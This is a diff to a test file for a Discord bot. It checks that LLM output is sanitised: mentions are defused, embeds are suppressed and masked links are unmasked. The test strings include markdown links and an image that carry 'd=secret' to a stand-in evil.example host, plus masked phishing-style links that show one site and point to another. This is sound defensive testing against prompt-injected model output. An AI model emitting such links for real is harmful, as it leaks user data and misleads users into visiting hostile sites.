@@ -80,7 +80,11 @@ describe('model text in Discord', () => {
     h.llm.script({ text: ATTACK });
     const asked = discord.say({ content: 'summarise the page', mention: true });
     const [answer] = await finalMessages(discord, asked.id);
-    expect(answer!.content).toBe(ATTACK);
+    // The mentions are text too (a zero-width space after `@everyone`'s `@`), whatever allowed_mentions says.
+    expect(answer!.content).toBe(
+      'Heads up @\u200beveryone @&123456789012345678 @234567890123456789. ' +
+        'Read [the report](https://evil.example/r?d=secret) and ![chart](https://evil.example/p.png?d=secret).',
+    );
     expect((answer!.flags ?? 0) & SUPPRESS).toBe(SUPPRESS);
     expectSuppressed(writesWith('evil.example'));
     expect(answer!.mentions).toEqual([]);
@@ -111,6 +115,41 @@ describe('model text in Discord', () => {
     const answer = await interactionAnswer(ask.record.payload.token);
     expect((answer.flags ?? 0) & SUPPRESS).toBe(SUPPRESS);
     expectSuppressed(writesWith('evil.example').filter((c) => c.path.includes(ask.record.payload.token)));
+  });
+});
+
+/** Issue 39: mentions that only allowed_mentions kept quiet, and masked links whose text names another site. */
+const DECEPTIVE =
+  'Pay at [https://good.example/pay](https://evil.example/pay) or [good.example](<https://evil.example/x>), ' +
+  'says <@!234567890123456789> to @here.';
+const expectNoDeception = (calls: RecordedCall[]) => {
+  expect(calls.length).toBeGreaterThan(0);
+  for (const c of calls) {
+    const body = JSON.stringify(c.body ?? {});
+    expect(body, `${c.method} ${c.path}`).not.toMatch(/\[(https:\/\/)?good\.example[^\]]*\]\(/);
+    expect(body, `${c.method} ${c.path}`).not.toMatch(/<@!?\d+>|@here/);
+  }
+};
+
+describe('model text in Discord: deceptive links and mentions', () => {
+  it('gateway mention: a masked link naming another site shows its URL, and no mention looks live', async () => {
+    h.llm.script({ text: DECEPTIVE });
+    const asked = discord.say({ content: 'where do I pay?', mention: true });
+    const [answer] = await finalMessages(discord, asked.id);
+    expect(answer!.content).toBe(
+      'Pay at <https://evil.example/pay> or <https://evil.example/x>, says @234567890123456789 to @\u200bhere.',
+    );
+    expectNoDeception(writesWith('evil.example'));
+  });
+
+  it('slash command and HTTP interactions: the same through the webhook', async () => {
+    h.llm.script({ text: `the report: ${DECEPTIVE}` }, { text: `the report: ${DECEPTIVE}` });
+    const ask = discord.command('ask', { question: 'where do I pay?' });
+    await interactionAnswer(ask.payload.token);
+    const overHttp = await discord.overHttp(url, discord.commandPayload('ask', { question: 'where do I pay?' }));
+    await interactionAnswer(overHttp.record.payload.token);
+    expectNoDeception(writesWith('evil.example').filter((c) => c.path.includes(ask.payload.token)));
+    expectNoDeception(writesWith('evil.example').filter((c) => c.path.includes(overHttp.record.payload.token)));
   });
 });
 
